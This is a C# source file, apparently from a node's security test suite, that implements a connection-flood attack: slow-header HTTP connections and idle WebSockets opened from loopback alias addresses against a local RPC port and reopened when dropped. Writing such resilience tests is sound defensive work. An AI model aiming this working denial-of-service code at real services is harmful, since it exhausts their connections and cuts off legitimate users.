using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Agora.Testing.Attacks;

/// <summary>
/// Finding 3: run the node out of connections and descriptors. From each source address (other 127.x addresses, so
/// per-address limits can be told apart from the observer's 127.0.0.1) the attack opens slow-header HTTP connections,
/// which send one more header line now and then and never finish, and idle WebSockets, which upgrade and then neither
/// subscribe nor send. Connections the node closes are opened again, as an attacker would.
/// </summary>
public sealed class ConnectionFloodAttack : Attack
{
    /// <summary>Source addresses to connect from (loopback aliases; Linux routes all of 127/8 to lo).</summary>
    public IReadOnlyList<IPAddress> Sources { get; init; } = Enumerable.Range(2, 11).Select(i => IPAddress.Parse($"127.0.0.{i}")).ToArray();

    /// <summary>Slow-header connections kept open per source address.</summary>
    public int SlowHeadersPerSource { get; init; } = 100;

    /// <summary>Idle WebSockets kept open per source address.</summary>
    public int IdleWebSocketsPerSource { get; init; } = 10;

    /// <summary>Time between header lines (and reconnection rounds).</summary>
    public TimeSpan Tick { get; init; } = TimeSpan.FromSeconds(2);

    /// <inheritdoc />
    public override string Name => "connection-flood";

    /// <inheritdoc />
    public override async Task<AttackReport> RunAsync(AttackTarget target, CancellationToken stop)
    {
        ArgumentNullException.ThrowIfNull(target);
        var endpoint = new IPEndPoint(IPAddress.Loopback, target.RpcUrl.Port);
        var slow = new List<Socket>();
        var idle = new List<Socket>();
        long opened = 0, refused = 0, closedByNode = 0, upgraded = 0, upgradeRefused = 0;
        var notes = new List<string>();
        try
        {
            while (!stop.IsCancellationRequested)
            {
                closedByNode += Prune(slow, s => TrySend(s, "X-Slow: 1\r\n"));
                closedByNode += Prune(idle, IsOpen);
                foreach (var source in Sources)
                {
                    for (var i = slow.Count(s => Equals(((IPEndPoint)s.LocalEndPoint!).Address, source)); i < SlowHeadersPerSource && !stop.IsCancellationRequested; i++)
                    {
                        if (await ConnectAsync(source, endpoint, $"GET /health HTTP/1.1\r\nHost: 127.0.0.1:{endpoint.Port}\r\n", stop) is { } socket)
                        {
                            slow.Add(socket);
                            opened++;
                        }
                        else
                        {
                            refused++;
                        }
                    }

                    for (var i = idle.Count(s => Equals(((IPEndPoint)s.LocalEndPoint!).Address, source)); i < IdleWebSocketsPerSource && !stop.IsCancellationRequested; i++)
                    {
                        var handshake = $"GET / HTTP/1.1\r\nHost: 127.0.0.1:{endpoint.Port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                            + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
                        if (await ConnectAsync(source, endpoint, handshake, stop) is not { } socket)
                        {
                            refused++;
                            continue;
                        }

                        var status = await ReadStatusAsync(socket, stop);
                        if (status == "101")
                        {
                            idle.Add(socket);
                            upgraded++;
                        }
                        else
                        {
                            upgradeRefused++;
                            if (notes.Count < 3)
                            {
                                notes.Add($"upgrade from {source} answered {status}");
                            }

                            socket.Dispose();
                        }
                    }
                }

                await PauseAsync(Tick, stop);
            }
        }
        finally
        {
            foreach (var socket in slow.Concat(idle))
            {
                socket.Dispose();
            }
        }

        return new AttackReport(Name, new Dictionary<string, long>
        {
            ["opened"] = opened,
            ["refused"] = refused,
            ["closed_by_node"] = closedByNode,
            ["ws_upgraded"] = upgraded,
            ["ws_refused"] = upgradeRefused,
        }, notes);
    }

    private static async Task<Socket?> ConnectAsync(IPAddress source, IPEndPoint endpoint, string firstBytes, CancellationToken stop)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            socket.Bind(new IPEndPoint(source, 0));
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(stop);
            timeout.CancelAfter(TimeSpan.FromSeconds(2));
            await socket.ConnectAsync(endpoint, timeout.Token);
            await socket.SendAsync(Encoding.ASCII.GetBytes(firstBytes), SocketFlags.None, timeout.Token);
            return socket;
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            socket.Dispose();
            return null;
        }
    }

    private static async Task<string> ReadStatusAsync(Socket socket, CancellationToken stop)
    {
        var buffer = new byte[1024];
        using var timeout = CancellationTokenSource.CreateLinkedTokenSource(stop);
        timeout.CancelAfter(TimeSpan.FromSeconds(2));
        try
        {
            var read = await socket.ReceiveAsync(buffer, SocketFlags.None, timeout.Token);
            var line = Encoding.ASCII.GetString(buffer, 0, read);
            return line.Length >= 12 && line.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) ? line[9..12] : "closed";
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            return "no answer";
        }
    }

    /// <summary>Drops (and counts) the sockets for which <paramref name="stillOpen"/> is false.</summary>
    private static int Prune(List<Socket> sockets, Func<Socket, bool> stillOpen)
    {
        var closed = sockets.Where(s => !stillOpen(s)).ToList();
        foreach (var socket in closed)
        {
            sockets.Remove(socket);
            socket.Dispose();
        }

        return closed.Count;
    }

    private static bool TrySend(Socket socket, string text)
    {
        try
        {
            return IsOpen(socket) && socket.Send(Encoding.ASCII.GetBytes(text)) > 0;
        }
        catch (SocketException)
        {
            return false;
        }
    }

    /// <summary>Open unless the peer closed it: readable with nothing to read means end of stream.</summary>
    private static bool IsOpen(Socket socket)
    {
        try
        {
            if (!socket.Poll(0, SelectMode.SelectRead))
            {
                return true;
            }

            var buffer = new byte[4096];
            return socket.Available > 0 && socket.Receive(buffer) > 0;
        }
        catch (SocketException)
        {
            return false;
        }
    }
}
